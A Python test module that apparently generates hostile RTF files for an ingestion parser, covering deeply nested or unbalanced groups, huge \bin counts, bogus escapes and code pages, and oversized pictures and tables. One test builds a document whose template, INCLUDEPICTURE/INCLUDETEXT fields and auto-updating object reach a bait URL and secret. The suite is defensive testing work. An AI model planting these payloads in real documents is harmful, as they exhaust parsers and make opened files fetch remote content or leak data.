"""Rich text whose groups, counts and escapes are malformed."""

from pathlib import Path

from ingestion.last_errors import CorruptFile
from tests.ingestion.hostile.corpus import Bait, baited, hostile, text
from tests.ingestion.hostile.endings import DEEP_RTF


@hostile("nested-groups.rtf", DEEP_RTF)
def a_million_groups_in_each_other(path: Path) -> None:
    path.write_text(r"{\rtf1 needle " + "{" * 1_000_000 + "}" * 1_000_001)


@hostile("unclosed-groups.rtf", DEEP_RTF)
def groups_that_are_never_closed(path: Path) -> None:
    path.write_text(r"{\rtf1 needle " + r"{\b x" * 100_000)


@hostile("closed-too-often.rtf", text("needle"))
def more_groups_closed_than_opened(path: Path) -> None:
    path.write_text(r"{\rtf1 needle}" + "}" * 100_000)


@hostile("binary.rtf", CorruptFile)
def four_gigabytes_of_binary_announced(path: Path) -> None:
    path.write_text(r"{\rtf1 needle {\bin4294967295 xxx}{\bin-1 yyy}{\bin999999999999999999 z}}")


@hostile("escapes.rtf", text("needle"))
def escapes_of_characters_that_do_not_exist(path: Path) -> None:
    escapes = r"\u-99999999999? \u55357? \u999999? \'zz \'8 \u \uc-5 \uc99999999 "
    path.write_text(r"{\rtf1\ansi needle " + escapes * 2_000 + "}")


@hostile("code-page.rtf", text("needle"))
def a_code_page_that_does_not_exist(path: Path) -> None:
    fonts = r"{\fonttbl{\f0\fcharset9999 x;}{\f1\fcharset-1 y;}}"
    path.write_text(r"{\rtf1\ansi\ansicpg99999 " + fonts + r"\f0 needle \'e9\f1 \'ff}")


@hostile("picture.rtf", text("needle"))
def a_picture_of_ten_megabytes_in_hexadecimal(path: Path) -> None:
    path.write_text(r"{\rtf1 needle {\pict\pngblip " + "89504e47" * 1_250_000 + "}}")


@hostile("half.rtf", text("needle"))
def a_rich_text_that_stops_inside_an_escape(path: Path) -> None:
    path.write_text(r"{\rtf1\ansi needle and more \'")


@hostile("long-word.rtf", text("needle"))
def a_control_word_of_a_million_letters(path: Path) -> None:
    path.write_text("{\\rtf1 needle \\" + "a" * 1_000_000 + " end}")


@hostile("backslashes.rtf", text("needle"))
def a_million_backslashes(path: Path) -> None:
    path.write_text(r"{\rtf1 needle " + "\\" * 1_000_000 + "}")


@hostile("nested-tables.rtf", text("needle"))
def a_table_row_of_100_000_cells(path: Path) -> None:
    path.write_text(r"{\rtf1 needle \trowd" + r"\cellx1 x\cell" * 100_000 + r"\row}")


@baited("reaches-out.rtf", text("needle"))
def a_rich_text_with_a_template_and_objects_from_elsewhere(path: Path, bait: Bait) -> None:
    path.write_text(
        rf"{{\rtf1{{\*\template {bait.url}t.dotm}}needle "
        rf'{{\field{{\*\fldinst INCLUDEPICTURE "{bait.url}p.png"}}{{\fldrslt x}}}}'
        rf'{{\field{{\*\fldinst INCLUDETEXT "{bait.secret}"}}{{\fldrslt y}}}}'
        rf"{{\object\objautlink\objupdate{{\*\objdata 0105000002000000}}}}}}"
    )
